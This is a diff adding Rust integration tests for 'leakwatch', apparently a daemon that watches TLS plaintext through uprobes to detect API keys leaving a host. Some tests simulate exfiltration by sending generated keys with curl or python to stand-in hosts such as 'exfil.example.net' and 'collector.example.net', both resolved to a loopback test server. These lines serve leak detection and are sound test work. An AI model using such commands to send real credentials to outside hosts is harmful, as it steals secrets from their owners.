@@ -1,0 +1,382 @@
+//! TLS plaintext with the real uprobes: real clients (python `http.client`, curl, node
+//! `https`) send a fresh key over HTTPS to a local TLS server on loopback; the key is
+//! found in the plaintext `SSL_write` passed, on the client's socket, with `tls: true`.
+//! Every daemon sees the whole host: alerts are matched only on this test's fingerprints.
+use std::{
+    io::{BufRead, BufReader},
+    process::{Child, Command, Stdio},
+};
+
+use leakwatch_tests::*;
+use serde_json::Value;
+
+/// A TLS server on 127.0.0.1 (python `ssl`, a throwaway self-signed certificate made
+/// for the test) answering every HTTP request with 200.
+struct TlsServer {
+    _child: Reaped,
+    port: u16,
+}
+
+const SERVER: &str = r#"
+import socket, ssl, sys, threading
+ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+ctx.load_cert_chain(sys.argv[1], sys.argv[2])
+s = socket.socket()
+s.bind(("127.0.0.1", 0))
+s.listen(64)
+print(s.getsockname()[1], flush=True)
+def serve(c):
+    try:
+        t = ctx.wrap_socket(c, server_side=True)
+        data = b""
+        while b"\r\n\r\n" not in data:
+            d = t.recv(65536)
+            if not d:
+                return
+            data += d
+        head, _, body = data.partition(b"\r\n\r\n")
+        n = 0
+        for line in head.split(b"\r\n"):
+            if line.lower().startswith(b"content-length:"):
+                n = int(line.split(b":")[1])
+        while len(body) < n:
+            d = t.recv(65536)
+            if not d:
+                break
+            body += d
+        t.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")
+        t.close()
+    except Exception:
+        pass
+while True:
+    c, _ = s.accept()
+    threading.Thread(target=serve, args=(c,), daemon=True).start()
+"#;
+
+impl TlsServer {
+    fn start(dir: &std::path::Path) -> TlsServer {
+        let (cert, key) = (dir.join("cert.pem"), dir.join("key.pem"));
+        let st = Command::new("openssl")
+            .args([
+                "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1",
+            ])
+            .args(["-subj", "/CN=localhost", "-keyout"])
+            .arg(&key)
+            .arg("-out")
+            .arg(&cert)
+            .stdout(Stdio::null())
+            .stderr(Stdio::null())
+            .status()
+            .unwrap();
+        assert!(st.success(), "openssl could not make a test certificate");
+        let mut child: Child = python()
+            .arg("-c")
+            .arg(SERVER)
+            .arg(&cert)
+            .arg(&key)
+            .stdout(Stdio::piped())
+            .spawn()
+            .unwrap();
+        let mut line = String::new();
+        BufReader::new(child.stdout.take().unwrap())
+            .read_line(&mut line)
+            .unwrap();
+        let port = line.trim().parse().expect("the TLS server's port");
+        TlsServer {
+            _child: Reaped(child),
+            port,
+        }
+    }
+
+    fn addr(&self) -> String {
+        format!("127.0.0.1:{}", self.port)
+    }
+}
+
+/// Waits until the TLS probes are on libssl and node (attached in the background at start).
+fn tls_ready(d: &Daemon) {
+    wait_until(60, "the TLS probes attached to libssl and node", || {
+        (d.metric("leakwatch_tls_files_total", &[("outcome", "attached")]) >= 2.0).then_some(())
+    });
+}
+
+fn tls_finding(d: &Daemon, fp: &str, pid: u32, what: &str) -> Value {
+    wait_until(20, what, || {
+        d.findings(fp)
+            .into_iter()
+            .find(|a| n(a, "pid") == pid as u64 && a["tls"] == true)
+    })
+}
+
+fn check(a: &Value, srv: &TlsServer, comm: &str) {
+    assert_eq!(s(a, "source"), "socket", "{a:#}");
+    assert_eq!(s(a, "remote"), srv.addr(), "{a:#}");
+    assert_eq!(s(a, "probe"), "uprobe_ssl_write", "{a:#}");
+    assert_eq!(s(a, "comm"), comm, "{a:#}");
+}
+
+#[test]
+fn tls_python_http_client_json_body() {
+    let mut d = Daemon::start("tls-python");
+    let srv = TlsServer::start(&d.scratch());
+    tls_ready(&d);
+    let (secret, text) = secret("openai-project-key");
+    let fp = fingerprint(&secret);
+    let mut c = python()
+        .arg("-c")
+        .arg(
+            "import http.client, json, ssl, sys\n\
+             c = http.client.HTTPSConnection('127.0.0.1', int(sys.argv[1]), \
+             context=ssl._create_unverified_context())\n\
+             c.request('POST', '/v1/x', json.dumps({'api_key': sys.argv[2]}), \
+             {'Content-Type': 'application/json'})\n\
+             assert c.getresponse().status == 200\n",
+        )
+        .arg(srv.port.to_string())
+        .arg(&text)
+        .spawn()
+        .unwrap();
+    let pid = c.id();
+    assert!(wait_exit(&mut c, 30, "python https").success());
+    let a = tls_finding(&d, &fp, pid, "the key in python's TLS plaintext");
+    check(&a, &srv, "python3");
+    drop(srv);
+    d.stop();
+    d.assert_no_plaintext(&[&secret]);
+}
+
+#[test]
+fn tls_curl_header() {
+    let mut d = Daemon::start("tls-curl");
+    let srv = TlsServer::start(&d.scratch());
+    tls_ready(&d);
+    let (secret, text) = secret("anthropic-api-key");
+    let fp = fingerprint(&secret);
+    let mut c = Command::new("curl")
+        .args(["-sk", "-o", "/dev/null", "-H"])
+        .arg(format!("x-api-key: {text}"))
+        .arg(format!("https://{}/v1/messages", srv.addr()))
+        .spawn()
+        .unwrap();
+    let pid = c.id();
+    assert!(wait_exit(&mut c, 30, "curl https").success());
+    let a = tls_finding(&d, &fp, pid, "the key in curl's TLS plaintext");
+    check(&a, &srv, "curl");
+    drop(srv);
+    d.stop();
+    d.assert_no_plaintext(&[&secret]);
+}
+
+/// node carries OpenSSL in its own executable and writes TLS through a memory BIO: the
+/// plaintext is tied to the socket by the ciphertext write that follows it.
+#[test]
+fn tls_node_https_request() {
+    let mut d = Daemon::start("tls-node");
+    let srv = TlsServer::start(&d.scratch());
+    tls_ready(&d);
+    let (secret, text) = secret("github-pat");
+    let fp = fingerprint(&secret);
+    let mut c = Command::new("node")
+        .arg("-e")
+        .arg(
+            "const https = require('https');\n\
+             const r = https.request({host: '127.0.0.1', port: +process.argv[1], \
+             method: 'POST', path: '/repos', rejectUnauthorized: false, \
+             headers: {Authorization: 'token ' + process.argv[2]}}, \
+             (res) => { res.resume(); res.on('end', () => process.exit(0)); });\n\
+             r.end('{}');",
+        )
+        .arg(srv.port.to_string())
+        .arg(&text)
+        .spawn()
+        .unwrap();
+    let pid = c.id();
+    assert!(wait_exit(&mut c, 30, "node https").success());
+    let a = tls_finding(&d, &fp, pid, "the key in node's TLS plaintext");
+    check(&a, &srv, "node");
+    drop(srv);
+    d.stop();
+    d.assert_no_plaintext(&[&secret]);
+}
+
+/// curl to `host` (resolved to the local server), the key in a header read from a file
+/// (not argv): SNI and `Host:` name `host`.
+fn curl_as(d: &Daemon, srv: &TlsServer, host: &str, header: &str) -> u32 {
+    let hfile = d.scratch().join(format!("h-{host}"));
+    std::fs::write(&hfile, format!("{header}\n")).unwrap();
+    let mut c = Command::new("curl")
+        .args(["-sk", "-o", "/dev/null", "--resolve"])
+        .arg(format!("{host}:{}:127.0.0.1", srv.port))
+        .arg("-H")
+        .arg(format!("@{}", hfile.display()))
+        .arg(format!("https://{host}:{}/v1/messages", srv.port))
+        .spawn()
+        .unwrap();
+    let pid = c.id();
+    assert!(wait_exit(&mut c, 30, "curl https").success());
+    pid
+}
+
+/// Every agent sends its model key to its provider: that is recorded, not alerted. The
+/// same kind of key sent to another host alerts and names the host.
+#[test]
+fn tls_key_sent_to_its_own_provider_is_expected_elsewhere_alerts() {
+    let mut d = Daemon::start("tls-expected");
+    let srv = TlsServer::start(&d.scratch());
+    tls_ready(&d);
+    let (own, own_text) = secret("anthropic-api-key");
+    let own_fp = fingerprint(&own);
+    let before = d.metric(
+        "leakwatch_expected_sends_total",
+        &[("rule", "anthropic-api-key")],
+    );
+    let pid = curl_as(
+        &d,
+        &srv,
+        "api.anthropic.com",
+        &format!("x-api-key: {own_text}"),
+    );
+    d.wait_metric(
+        "leakwatch_expected_sends_total",
+        &[("rule", "anthropic-api-key")],
+        "the send to api.anthropic.com recorded as expected",
+        |v| v > before,
+    );
+    let (other, other_text) = secret("anthropic-api-key");
+    let other_fp = fingerprint(&other);
+    let pid2 = curl_as(
+        &d,
+        &srv,
+        "exfil.example.net",
+        &format!("x-api-key: {other_text}"),
+    );
+    let a = tls_finding(&d, &other_fp, pid2, "the key sent to another host");
+    assert_eq!(s(&a, "host"), "exfil.example.net", "{a:#}");
+    check(&a, &srv, "curl");
+    // By then the first send has long been through the pipeline: it raised nothing.
+    let own_alerts: Vec<Value> = d
+        .findings(&own_fp)
+        .into_iter()
+        .filter(|a| n(a, "pid") == pid as u64)
+        .collect();
+    assert!(
+        own_alerts.is_empty(),
+        "expected send alerted: {own_alerts:#?}"
+    );
+    drop(srv);
+    d.stop();
+    d.assert_no_plaintext(&[&own, &other]);
+}
+
+/// Plain HTTP names its host in the `Host:` header.
+#[test]
+fn plain_http_host_header_names_the_host() {
+    let mut d = Daemon::start("http-host");
+    let sink = HttpSink::start();
+    let (secret, text) = secret("openai-project-key");
+    let fp = fingerprint(&secret);
+    let mut c = python()
+        .arg("-c")
+        .arg(
+            "import http.client, sys\n\
+             c = http.client.HTTPConnection('127.0.0.1', int(sys.argv[1]))\n\
+             c.request('POST', '/ingest', '{\"k\": \"' + sys.argv[2] + '\"}', \
+             {'Host': 'collector.example.net'})\n\
+             c.getresponse().read()\n",
+        )
+        .arg(sink.port.to_string())
+        .arg(&text)
+        .spawn()
+        .unwrap();
+    let pid = c.id();
+    assert!(wait_exit(&mut c, 30, "python http").success());
+    let a = wait_until(20, "the key sent over plain HTTP", || {
+        d.findings(&fp)
+            .into_iter()
+            .find(|a| n(a, "pid") == pid as u64 && s(a, "source") == "socket")
+    });
+    assert_eq!(s(&a, "host"), "collector.example.net", "{a:#}");
+    assert_eq!(s(&a, "remote"), sink.addr(), "{a:#}");
+    d.stop();
+    d.assert_no_plaintext(&[&secret]);
+}
+
+/// A frozen key is expected nowhere: sent over TLS (even to its own provider's name) its
+/// sender is killed.
+#[test]
+fn tls_frozen_key_sender_is_killed() {
+    let mut d = Daemon::start("tls-frozen");
+    let srv = TlsServer::start(&d.scratch());
+    tls_ready(&d);
+    let (secret, text) = secret("openai-project-key");
+    let out = freeze_with(&d, &secret, &[]);
+    assert!(
+        out.status.success(),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    // Read from a file: in argv or the environment the kernel would kill it at exec.
+    let kfile = d.scratch().join("key");
+    std::fs::write(&kfile, &text).unwrap();
+    let mut c = python()
+        .arg("-c")
+        .arg(
+            "import socket, ssl, sys, time\n\
+             key = open(sys.argv[2]).read()\n\
+             ctx = ssl._create_unverified_context()\n\
+             s = ctx.wrap_socket(socket.create_connection(('127.0.0.1', int(sys.argv[1]))), \
+             server_hostname='api.openai.com')\n\
+             body = '{\"api_key\": \"' + key + '\"}'\n\
+             s.sendall(('POST / HTTP/1.1\\r\\nHost: api.openai.com\\r\\nContent-Length: %d\\r\\n\\r\\n%s' \
+             % (len(body), body)).encode())\n\
+             time.sleep(30)\n",
+        )
+        .arg(srv.port.to_string())
+        .arg(&kfile)
+        .spawn()
+        .unwrap();
+    let pid = c.id();
+    let st = wait_exit(&mut c, 20, "the sender of a frozen key being killed");
+    assert!(!st.success(), "the sender survived");
+    let k = d.wait_alert("a kill of the TLS sender", |a| {
+        s(a, "kind") == "kill" && n(a, "pid") == pid as u64
+    });
+    assert_eq!(s(&k, "by"), "write", "{k:#}");
+    drop(srv);
+    d.stop();
+    d.assert_no_plaintext(&[&secret]);
+}
+
+/// Java's TLS is written in Java: no uprobe sees it. A Java program that connects out is
+/// listed by `status` as a blind spot, so the operator knows.
+#[test]
+fn tls_blind_java_is_listed_by_status() {
+    let mut d = Daemon::start("tls-blind");
+    let srv = TlsServer::start(&d.scratch());
+    let dir = d.scratch();
+    std::fs::write(
+        dir.join("Conn.java"),
+        "public class Conn { public static void main(String[] a) throws Exception { \
+         try (java.net.Socket s = new java.net.Socket(\"127.0.0.1\", Integer.parseInt(a[0]))) {} } }\n",
+    )
+    .unwrap();
+    let mut c = Command::new("java")
+        .arg("Conn.java")
+        .arg(srv.port.to_string())
+        .current_dir(&dir)
+        .spawn()
+        .unwrap();
+    let pid = c.id();
+    assert!(wait_exit(&mut c, 60, "java connecting").success());
+    let b = wait_until(20, "java listed as a TLS blind spot", || {
+        d.status()["tls_blind"]
+            .as_array()
+            .and_then(|l| l.iter().find(|b| n(b, "pid") == pid as u64).cloned())
+    });
+    assert_eq!(s(&b, "reason"), "java", "{b:#}");
+    assert_eq!(s(&b, "remote"), srv.addr(), "{b:#}");
+    assert!(s(&b, "exe").ends_with("/java"), "{b:#}");
+    assert!(d.metric("leakwatch_tls_blind_programs", &[]) >= 1.0);
+    drop(srv);
+    d.stop();
+}
